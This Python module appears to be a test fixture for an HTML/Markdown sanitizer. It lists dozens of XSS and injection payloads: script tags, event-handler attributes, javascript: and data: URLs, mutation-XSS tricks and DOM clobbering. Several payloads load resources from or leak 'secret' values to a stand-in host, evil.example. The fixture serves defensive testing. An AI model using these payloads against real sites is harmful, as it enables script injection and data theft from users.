"""Texts that try to become markup, script, a link, an image or a style."""

from __future__ import annotations

_HTML = """
<script>window.pwned = 1</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/x>window.pwned = 1</script>
<scr<script>ipt>window.pwned = 1</scr</script>ipt>
<img src=x onerror="window.pwned = 1">
<IMG SRC="javascript:window.pwned = 1">
<img src="//evil.example/p.png?question=secret">
<image src=x onerror=window.pwned=1>
<svg onload="window.pwned = 1"></svg>
<svg><script>window.pwned = 1</script></svg>
<svg><a xlink:href="javascript:window.pwned=1"><text y=20>go</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=window.pwned=1>#x"/></svg>
<svg><style><img src=x onerror=window.pwned=1></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>
<math><a xlink:href="javascript:window.pwned=1">go</a></math>
<iframe src="javascript:window.pwned=1"></iframe>
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
<object data="javascript:window.pwned=1"></object>
<embed src="//evil.example/x.swf">
<applet code=x></applet>
<base href="//evil.example/">
<link rel=stylesheet href="//evil.example/x.css">
<link rel=prefetch href="//evil.example/?secret">
<meta http-equiv=refresh content="0;url=//evil.example">
<style>body { display: none }</style>
<style>@import '//evil.example/x.css';</style>
<p style="position:fixed;inset:0;background:url(//evil.example/x)">over all</p>
<form action="//evil.example"><input name=key><button>Send</button></form>
<input autofocus onfocus="window.pwned=1">
<body onload="window.pwned=1">
<details open ontoggle="window.pwned=1"><summary>x</summary></details>
<video><source onerror="window.pwned=1"></video>
<audio src=x onerror="window.pwned=1"></audio>
<marquee onstart="window.pwned=1">x</marquee>
<template><script>window.pwned=1</script></template>
<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">
<textarea><img src=x onerror=window.pwned=1></textarea>
<title><img src=x onerror=window.pwned=1></title>
<a href="javascript:window.pwned=1">go</a>
<a href=" &#106;avascript:window.pwned=1">go</a>
<button formaction="javascript:window.pwned=1">go</button>
<div id=main name=body><a id=status>clobbered</a></div>
<!--><img src=x onerror=window.pwned=1>-->
<![CDATA[<img src=x onerror=window.pwned=1>]]>
<?xml-stylesheet href="javascript:window.pwned=1"?>
</div></article></main><script>window.pwned=1</script>
"""
_MARKDOWN = """
![a picture](//evil.example/p.png?question=secret)
![a picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![a picture][shown]
[go](javascript:window.pwned=1)
[go](JaVaScRiPt:window.pwned=1)
[go](data:text/html,<script>window.pwned=1</script>)
[go](vbscript:window.pwned=1)
[go](file:///etc/passwd)
[go](//evil.example "title' onmouseover='window.pwned=1")
[go](https://evil.example/?a="onmouseover="window.pwned=1)
<javascript:window.pwned=1>
`<img src=x onerror=window.pwned=1>`
[`<img src=x onerror=window.pwned=1>`](/v1/models)
| <script>window.pwned=1</script> | b |
# <img src=x onerror=window.pwned=1>
> <script>window.pwned=1</script>
1. <svg onload=window.pwned=1>
"""
_LONGER = (
    "```html onload=window.pwned=1\n<script>window.pwned=1</script>\n```",
    '```"><script>window.pwned=1</script>\ncode\n```',
    "[go][x]\n\n[x]: javascript:window.pwned=1",
    "|a|b|\n|:-:|-:|\n|<img src=x onerror=window.pwned=1>|![x](//evil.example/y)|",
)

TEXTS = (*_HTML.strip().splitlines(), *_MARKDOWN.strip().splitlines(), *_LONGER)
